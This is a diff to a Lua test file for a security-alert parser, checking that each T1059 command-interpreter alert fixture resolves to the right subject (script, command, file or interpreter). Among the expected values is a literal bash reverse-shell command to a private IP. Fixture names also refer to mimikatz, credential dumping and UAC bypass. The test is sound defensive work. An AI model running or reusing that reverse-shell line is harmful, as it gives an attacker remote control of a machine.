@@ -1,6 +1,8 @@
--- subject.lua: the subject of every T1059 alert, and that it is never the interpreter.
+-- subject_test.lua: the subject of every T1059 alert, and that it is never the interpreter.
 
-local shim    = require "shim"
+package.path = "tests/lua/alert/?.lua;" .. package.path
+local shim = require "shim"
+local test = shim.test
 local json    = require "json"
 local alert   = require "alert"
 local attack  = require "attack"
@@ -53,21 +55,26 @@ end
 local EXPECTED = {
   ["windows/nxlog_sysmon1_wscript_launcher_vbs.json"] = {
     kind = "script", name = "launcher.vbs", path = "C:\\Users\\pgustavo\\Desktop\\launcher.vbs", pid = 2440,
-    host = "WORKSTATION5.theshire.local", started = "2020-09-04T20:09:55.035Z", image = "C:\\Windows\\System32\\wscript.exe",
+    host = "WORKSTATION5.theshire.local", started = "2020-09-04T20:09:55.035Z",
+    image = "C:\\Windows\\System32\\wscript.exe",
   },
   ["windows/nxlog_sysmon1_powershell_enc_huge.json"] = {
     kind = "command", name = "command.ps1", pid = 2316,
     sha256 = "102c8e3e6bd3bd4bd580c235b739e000d0a65d8ade284ca18d7c3382b4e22c7f",
   },
-  ["crowdstrike/fdr_processrollup2_encodedcommand.json"] = { kind = "command", text = "helloworld", name = "command.ps1" },
-  ["crowdstrike/fdr_processrollup2_excel_cmd.json"] = { kind = "interpreter", name = "cmd.exe", image = "cmd.exe" },
+  ["crowdstrike/fdr_processrollup2_encodedcommand.json"] = { kind = "command", text = "helloworld",
+                                                             name = "command.ps1" },
+  ["crowdstrike/fdr_processrollup2_excel_cmd.json"] = { kind = "interpreter", name = "cmd.exe",
+                                                        image = "cmd.exe" },
   ["crowdstrike/fdr_processrollup2_osascript.json"] = { kind = "script", name = "test.osa" },
-  ["crowdstrike/detection_flat_pshelldownloadrun_t1086.json"] = { kind = "interpreter", name = "powershell.exe" },
+  ["crowdstrike/detection_flat_pshelldownloadrun_t1086.json"] = { kind = "interpreter",
+      name = "powershell.exe" },
   ["trend_vision_one/workbench_v3_mimikatz_t1059_003.json"] = { kind = "command", name = "command.ps1" },
   ["trend_vision_one/workbench_v3_uac_bypass.json"] = {
     kind = "file", path = "c:\\users\\sam\\appdata\\local\\cyzfc.dat",
   },
-  ["trend_vision_one/workbench_v3_credential_dump_masked.json"] = { kind = "script", name = "T1003_Demo_Script.bat" },
+  ["trend_vision_one/workbench_v3_credential_dump_masked.json"] = { kind = "script",
+      name = "T1003_Demo_Script.bat" },
   ["microsoft/mde_alert_low_reputation_t1064.json"] = {
     kind = "file", path = "c:\\temp\\suspicious.dll",
     sha256 = "dc0ade0c95d6db98882bc8fa6707e64353cd6f7767ff48d6a81a6c2aef21c608",
@@ -94,7 +101,8 @@ local EXPECTED = {
   ["linux/loganalytics_syslog_sysmon_bash_c.json"] = {
     kind = "command", name = "command.sh", text = "bash -i >& /dev/tcp/192.168.2.6/443 0>&1\n",
   },
-  ["cortex_xdr/incidents_page_t1059.json"] = { kind = "interpreter", name = "PowerShell", host = "example-host" },
+  ["cortex_xdr/incidents_page_t1059.json"] = { kind = "interpreter", name = "PowerShell",
+                                               host = "example-host" },
   ["sigma/hit_explicit_credential_logon.json"] = {
     kind = "file", path = "C:\\Users\\xodih\\OneDrive\\Desktop\\LegacyHive.exe",
   },
@@ -104,7 +112,8 @@ for file, expected in pairs(EXPECTED) do
   test("subject: " .. file, function()
     local s = of(file)
     for what, value in pairs(expected) do
-      if s[what] ~= value then error(("%s: got %s, expected %s"):format(what, tostring(s[what]), tostring(value)), 0) end
+      if s[what] ~= value then error(("%s: got %s, expected %s"):format(what, tostring(s[what]),
+          tostring(value)), 0) end
     end
   end)
 end
@@ -119,7 +128,8 @@ test("subject: a hash that is the interpreter's is not taken from the alert's fi
 end)
 
 test("subject: a copy of an interpreter in a user's folder is still one", function()
-  local s = check { process = { name = "cmd.exe", path = "C:\\Users\\x\\cmd.exe", interpreter = true, sha256 = ("a"):rep(64) } }
+  local s = check { process = { name = "cmd.exe", path = "C:\\Users\\x\\cmd.exe", interpreter = true,
+                                sha256 = ("a"):rep(64) } }
   assert(s.kind == "interpreter")
   assert(subject.is_system("C:\\Users\\x\\python3.11.exe") and subject.is_system("/usr/bin/anything"))
   assert(not subject.is_system("C:\\Users\\x\\invoice.exe"))
@@ -135,3 +145,5 @@ test("subject: an interpreter under another name is known by the name that it wa
   local s = subject.subject(a)
   assert(s.kind ~= "file" and s.sha256 ~= a.process.sha256)
 end)
+
+shim.done()
